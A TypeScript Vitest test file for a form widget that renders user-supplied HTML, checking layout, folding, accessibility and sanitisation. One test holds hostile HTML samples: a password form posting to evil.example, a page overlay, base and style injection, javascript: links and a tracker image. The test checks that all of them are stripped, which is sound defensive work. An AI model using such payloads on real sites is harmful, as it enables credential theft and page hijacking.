import type { FormItem } from '@opencareers/form-core/definition/form-definition';
import { findAxeViolations } from '@opencareers/ui/testing/axe';
import { failOnConsoleErrors } from '@opencareers/ui/testing/console';
import { inEveryLook } from '@opencareers/ui/testing/looks';
import { expect, test, vi } from 'vitest';
import { render } from 'vitest-browser-react';
import { startTestForm, WidgetStage } from '../testing/widget-stage.tsx';
import { HtmlBlock } from './html-block.tsx';

failOnConsoleErrors();

async function showHtml(html: string, more: Partial<FormItem> = {}) {
  const item = { name: 'note', type: 'info', options: { html }, ...more } as FormItem;
  const runtime = startTestForm({ items: [item] });
  const screen = await render(
    <WidgetStage runtime={runtime} name="note" Component={HtmlBlock} labelling="none" />,
  );
  await expect.poll(() => document.querySelector('.oc-safe-html')?.getAttribute('aria-busy')).toBeNull();
  return { screen, box: document.querySelector('.oc-safe-html') as HTMLElement };
}

test('[FORM-04] the text of a block is shown with its headings, lists, tables and links', async () => {
  const { screen, box } = await showHtml(
    '<h1>Welcome</h1><p>Read <a href="https://example.com/policy">the policy</a>.</p>' +
      '<ul><li>One</li></ul><table><tr><th scope="col">Day</th></tr></table>',
  );
  await expect.element(screen.getByRole('heading', { level: 3, name: 'Welcome' })).toBeVisible();
  const link = screen.getByRole('link', { name: 'the policy (opens in a new tab)' });
  await expect.element(link).toHaveAttribute('target', '_blank');
  await expect.element(link).toHaveAttribute('rel', 'noopener noreferrer nofollow');
  await expect.element(screen.getByRole('columnheader', { name: 'Day' })).toBeVisible();
  expect(box.querySelector('li')?.textContent).toBe('One');
});

test('[FORM-04] long text folds: at 150 px for an instruction, 400 px for information', async () => {
  const html = '<p>Line</p>'.repeat(60);
  const instruction = await showHtml(html, { type: 'instruction' } as Partial<FormItem>);
  const height = () =>
    document.querySelector('.oc-read-more__content')?.getBoundingClientRect().height ?? Number.NaN;
  const more = instruction.screen.getByRole('button', { name: 'Read more' });
  await expect.element(more).toHaveAttribute('aria-expanded', 'false');
  expect(height()).toBe(150);
  await more.click();
  await expect.element(instruction.screen.getByRole('button', { name: 'Read less' })).toBeVisible();
  expect(height()).toBeGreaterThan(1000);
  await instruction.screen.unmount();
  const information = await showHtml(html);
  await expect.element(information.screen.getByRole('button', { name: 'Read more' })).toBeVisible();
  expect(height()).toBe(400);
});

test('nothing that was written into a block can take a name, cover the page or send anything', async () => {
  const { box } = await showHtml(
    '<form action="https://evil.example" id="location"><input name="password"><button>Go</button></form>' +
      '<div id="createElement" class="oc-dialog" style="position:fixed;inset:0;background:red">cover</div>' +
      '<style>body{display:none}</style><base href="https://evil.example"><iframe src="/"></iframe>' +
      '<svg><a href="javascript:alert(1)">x</a></svg><math><mi>x</mi></math>' +
      '<img src="//evil.example/x.gif" alt="tracker"><img src="data:image/svg+xml,<svg/>" alt="drawn">' +
      '<a href="javascript:alert(1)">script</a><a href="//evil.example">elsewhere</a><a href="/\\evil.example">x</a>' +
      '<table><tr><td colspan="100000">cell</td></tr></table>',
  );
  expect(box.querySelectorAll('form, input, button, style, base, iframe, svg, math, img, a').length).toBe(0);
  expect([...box.querySelectorAll('*')].flatMap((element) => element.getAttributeNames())).toEqual([
    'colspan',
  ]);
  expect(box.querySelector('td')?.colSpan).toBe(50);
  expect(box.textContent).toContain('cover');
  expect(box.textContent).toContain('tracker');
});

const shared = import.meta.glob<string>(
  '../../../../../shared/data/06-bad-input/strings/html-descriptions.shared.jsonl',
  { query: '?raw', import: 'default' },
);
const [loadShared] = Object.values(shared);

test.skipIf(loadShared === undefined)(
  'the collected hostile HTML neither runs nor leaves its box (skipped where the collection is absent)',
  async () => {
    const lines = ((await loadShared?.()) ?? '').split('\n').filter((line) => line.trim() !== '');
    expect(lines.length).toBeGreaterThan(20);
    const alert = vi.spyOn(window, 'alert').mockImplementation(() => undefined);
    const requests: string[] = [];
    const watch = new PerformanceObserver((list) =>
      requests.push(...list.getEntries().map(({ name }) => name)),
    );
    watch.observe({ type: 'resource' });
    const address = location.href;
    const title = document.title;
    for (const line of lines) {
      const { html, what } = JSON.parse(line) as { html: string; what: string };
      const { screen, box } = await showHtml(html);
      const dangerous =
        'script, iframe, object, embed, meta, link, style, base, form, input, button, svg, math';
      expect(box.querySelector(dangerous), what).toBeNull();
      for (const element of box.querySelectorAll('*')) {
        const names = element.getAttributeNames();
        expect(
          names.filter((name) => /^on|^style$|^id$|^name$|^srcdoc$/.test(name)),
          what,
        ).toEqual([]);
        const { position } = getComputedStyle(element);
        expect(
          ['static', 'relative'].includes(position) || element.className === 'oc-visually-hidden',
          what,
        ).toBe(true);
        for (const name of ['href', 'src']) {
          expect(element.getAttribute(name) ?? '/', what).toMatch(
            /^(https:\/\/|\/(?![/\\])|mailto:|tel:|http:)/,
          );
        }
      }
      const outer = box.getBoundingClientRect();
      expect(outer.right, what).toBeLessThanOrEqual(document.documentElement.clientWidth);
      await screen.unmount();
    }
    watch.disconnect();
    expect(alert).not.toHaveBeenCalled();
    expect([location.href, document.title]).toEqual([address, title]);
    expect(requests.filter((name) => name.includes('evil'))).toEqual([]);
  },
);

test('[FORM-04] a block is readable in every look', async () => {
  await showHtml('<h2>Title</h2><p>Text with <a href="/policy">a link</a> and <code>code</code>.</p>', {
    type: 'instruction',
    label: 'Before you start',
  } as Partial<FormItem>);
  expect(await inEveryLook(() => findAxeViolations())).toEqual([]);
});

test('[FORM-04] a dead end stands out before anybody sends, and says why it keeps the form', async () => {
  const item = {
    name: 'note',
    type: 'instruction',
    deadEnd: true,
    options: { html: '<p>Come back later.</p>' },
  };
  const runtime = startTestForm({ items: [item as FormItem] });
  const screen = await render(
    <WidgetStage runtime={runtime} name="note" Component={HtmlBlock} labelling="none" />,
  );
  await expect.element(screen.getByText('Come back later.')).toBeVisible();
  expect(document.querySelector('.oc-alert-box--warning')).not.toBeNull();
  runtime.session.validate();
  await expect.element(screen.getByText('With these answers the form can’t be sent.')).toBeVisible();
  expect(await inEveryLook(() => findAxeViolations())).toEqual([]);
});
